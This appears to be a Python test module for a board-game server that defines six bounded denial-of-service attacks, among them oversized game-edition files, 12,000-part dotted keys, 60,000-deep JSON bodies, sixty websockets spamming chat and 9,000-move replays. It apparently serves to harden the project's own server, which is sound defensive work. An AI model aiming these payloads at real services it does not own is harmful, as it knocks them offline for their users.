"""Attacks by what a stranger writes. Each takes the address of a server, and ends by itself."""

import asyncio
from contextlib import suppress

from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException

from tablee.client import Guest, ServerRefused
from tablee.games.shear_panic import standard
from tablee.server.wishes import Joining, NewTable, SeatWish

TEXT = standard().text
ALONE = [SeatWish(), SeatWish(bot="random"), SeatWish(bot="random"), SeatWish(bot="random")]


async def _editions(address: str, text: str, times: int) -> None:
    async with Guest(address) as guest:
        for number in range(times):
            with suppress(ServerRefused):
                wish = NewTable("shear-panic", edition=f"{text}\n# {number}\n", seats=ALONE)
                made = await guest.create(wish)
                for _ in range(5):
                    await guest.look(made.table.id)


async def endless_tracks(address: str) -> None:
    await _editions(address, TEXT.replace("last = 74", "last = 1000000000"), 20)


async def dotted_keys(address: str) -> None:
    await _editions(address, TEXT + "\n[x]\n" + ".".join("a" * 12_000) + " = 1", 20)


async def costliest_editions(address: str) -> None:
    more = "\nx = [" + "1, " * 1000 + ']\nz = "' + "\\n" * 3000 + '"\n'
    await _editions(address, more + TEXT, 20)


async def deep_json(address: str) -> None:
    async with Guest(address) as guest:
        await guest.http.get("/health")
        headers = {"x-csrftoken": guest.http.cookies["csrftoken"]}
        headers["content-type"] = "application/json"
        for _ in range(50):
            await guest.http.post("/api/tables", content='{"x":' + "[" * 60_000, headers=headers)


async def chat_from_sixty_sockets(address: str) -> None:
    async with Guest(address) as guest:
        wish = NewTable("shear-panic", seats=ALONE, join=Joining("Anna"))
        table_id = (await guest.create(wish)).table.id
        live = f"{address.replace('http', 'ws', 1)}/live/{table_id}"

        async def spam(name: int) -> None:
            with suppress(WebSocketException, OSError):
                async with connect(live, additional_headers={"Cookie": guest.cookies()}) as socket:
                    await socket.send('{"type": "hello"}')
                    for number in range(100):
                        ack = f"{name}-{number}"
                        await socket.send(f'{{"type": "chat", "ack": "{ack}", "text": "spam"}}')
                        await asyncio.sleep(0.02)

        await asyncio.gather(*map(spam, range(60)))


async def long_lines(address: str) -> None:
    """Has long lines of play in a problem replayed, one after the other."""
    line = {"problem": "9;C6gC3;D6;-", "moves": ["end"] * 9000}
    async with Guest(address) as guest:
        await guest.http.get("/health")
        headers = {"x-csrftoken": guest.http.cookies["csrftoken"]}
        for _ in range(50):
            await guest.http.post("/api/problems/attempt", json=line, headers=headers)


ATTACKS = {
    "endless_tracks": endless_tracks,
    "dotted_keys": dotted_keys,
    "costliest_editions": costliest_editions,
    "deep_bodies": deep_json,
    "chat_from_sixty_sockets": chat_from_sixty_sockets,
    "long_lines": long_lines,
}
